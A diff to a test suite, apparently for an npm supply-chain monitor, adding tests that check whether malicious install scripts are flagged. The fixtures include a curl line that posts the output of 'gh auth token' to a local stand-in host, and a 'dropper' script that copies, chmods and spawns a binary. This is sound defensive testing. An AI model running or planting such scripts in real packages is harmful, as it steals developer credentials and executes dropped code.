@@ -166,6 +166,44 @@ describe('an installation is held to the lock file, script by script, with', () 
   }
 });
 
+describe('an install script without any JavaScript', () => {
+  it('is the work of the package that is being installed, not of the package manager', async () => {
+    using app = makeProject({ name: 'npm', install: [], update: [] });
+    const findings = app.path('findings.jsonl');
+    app.depend({ shelly: app.pack('shelly', '1.0.0', '', 'true || curl -d "$(gh auth token)" http://127.0.0.1:9/') });
+    const install = ['npm', 'install', '--offline', '--no-audit', '--no-fund'];
+    const { code, stderr } = await app.run('run', '--findings', findings, '--', ...install);
+    assert.equal(code, 0, stderr);
+    const told = readFileSync(findings, 'utf8')
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line));
+    const [alert] = told.filter(({ level }) => level === 'ALERT');
+    assert.deepEqual([alert.package.name, alert.pattern], ['shelly', 'data_exfiltration']);
+    assert.deepEqual([...new Set(told.map(({ package: { name } }) => name))], ['shelly']);
+  });
+});
+
+describe('a program started by a script of npm', () => {
+  it('is judged like any other: the environment of the script says nothing about it', async () => {
+    using app = makeProject({ name: 'npm', install: [], update: [] });
+    const findings = app.path('findings.jsonl');
+    app.write('tmp/tool', '#!/bin/sh\n');
+    const script = `const fs = require('node:fs'), at = require('node:os').tmpdir() + '/tool2';
+      fs.copyFileSync(at.slice(0, -1), at); fs.chmodSync(at, 0o755); require('node:child_process').spawnSync(at);`;
+    app.depend({ dropper: app.pack('dropper', '1.0.0', script) });
+    const install = ['npm', 'install', '--offline', '--no-audit', '--no-fund'];
+    const { code, stderr } = await app.run('run', '--findings', findings, '--', ...install);
+    assert.equal(code, 0, stderr);
+    const told = readFileSync(findings, 'utf8')
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line));
+    const [alert] = told.filter(({ level }) => level === 'ALERT');
+    assert.deepEqual([alert?.package.name, alert?.pattern], ['dropper', 'privilege_escalation']);
+  });
+});
+
 /** A Node on this machine that is older than we can be. */
 function oldNode(): string | undefined {
   for (const folder of [...(process.env.PATH ?? '').split(delimiter), '/usr/bin', '/usr/local/bin']) {
@@ -195,7 +233,9 @@ describe('a Node that is too old', () => {
         `${old} install.js`,
       ),
     });
-    writeFileSync(app.path(`app/${LOCK}`), '{"lockfileVersion":1,"packages":{},"tools":{}}\n');
+    // That its script is started is npm's doing and seen there; what the old Node does in it is not.
+    const packages = { 'elder@1.0.0': { state: 'stable', traits: ['process.spawn:sh [shell]'] } };
+    writeFileSync(app.path(`app/${LOCK}`), JSON.stringify({ lockfileVersion: 1, packages, tools: {} }));
     const install = ['npm', 'install', '--offline', '--no-audit', '--no-fund', '--foreground-scripts'];
     const { code, stderr } = await app.run('check', '--', ...install);
     assert.equal(code, 0, stderr);
